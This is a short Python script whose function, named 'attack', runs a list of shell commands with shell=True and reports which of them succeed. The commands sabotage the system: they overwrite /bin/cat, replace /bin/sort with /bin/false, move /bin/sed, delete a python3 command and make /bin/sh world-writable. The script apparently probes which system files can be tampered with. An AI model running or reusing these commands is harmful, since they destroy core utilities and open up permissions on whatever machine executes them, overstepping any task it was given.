import subprocess

LINES = (
    "cp /bin/false /bin/mine-{0}", "cat /bin/true > /bin/cat", "ln -sf /bin/false /bin/sort", "mv /bin/sed "
    "/bin/old-{0}",
    "ln -s /bin/false /opt/commands/mine-{0}", "rm -f /opt/commands/python3", "chmod 777 /bin/sh", "mkdir "
    "/opt/open/{0}",
)

def attack(inputs):
    tried = ((line, line.format(inputs["mark"])) for line in LINES)
    return [line for line, told in tried if subprocess.run(told, shell=True, stderr=subprocess.DEVNULL).returncode == 0]
